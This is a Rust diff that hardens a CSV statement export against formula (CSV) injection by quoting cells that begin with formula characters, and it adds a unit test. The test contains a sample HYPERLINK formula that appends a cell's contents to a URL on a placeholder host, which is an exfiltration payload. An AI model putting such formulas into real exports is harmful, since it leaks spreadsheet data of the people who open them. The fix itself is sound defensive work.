@@ -328,6 +328,17 @@ fn wants_csv(request: &HttpRequest) -> Result<bool, ApiError> {
     }
 }
 
+/// A text cell as a spreadsheet shows it, never as a formula: a cell
+/// starting `=`, `+`, `-`, `@`, tab or return gets a leading `'` (as OWASP
+/// advises for CSV injection).
+fn as_text(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell.to_owned()
+    }
+}
+
 /// One row per driver line and one `total` row per statement.
 fn statements_csv(commitment: &Commitment, statements: &[&Statement]) -> Result<String, ApiError> {
     let internal = |error: csv::Error| {
@@ -358,8 +369,8 @@ fn statements_csv(commitment: &Commitment, statements: &[&Statement]) -> Result<
     .map_err(internal)?;
     for statement in statements {
         let head = [
-            commitment.id.clone(),
-            commitment.request.currency.clone(),
+            as_text(&commitment.id),
+            as_text(&commitment.request.currency),
             statement.period.to_string(),
             statement.period_start.to_string(),
             statement.period_end.to_string(),
@@ -368,7 +379,7 @@ fn statements_csv(commitment: &Commitment, statements: &[&Statement]) -> Result<
         for line in &statement.lines {
             let mut row = head.to_vec();
             row.extend([
-                line.driver.clone(),
+                as_text(&line.driver),
                 line.committed.to_string(),
                 line.realized.to_string(),
                 line.adjustment.to_string(),
@@ -486,4 +497,21 @@ pub(crate) async fn statement(
         .with_field("period"));
     };
     statements_answer(&request, &commitment, vec![found])
+}
+
+#[cfg(test)]
+mod tests {
+    /// A driver named as a formula reaches a spreadsheet as text (the
+    /// review's CSV injection).
+    #[test]
+    fn text_cells_never_read_as_formulas() {
+        assert_eq!(
+            super::as_text("=HYPERLINK(\"http://x/?\"&A1,\"pay\")"),
+            "'=HYPERLINK(\"http://x/?\"&A1,\"pay\")"
+        );
+        for cell in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(super::as_text(cell).starts_with('\''), "{cell:?}");
+        }
+        assert_eq!(super::as_text("ticket deflection"), "ticket deflection");
+    }
 }
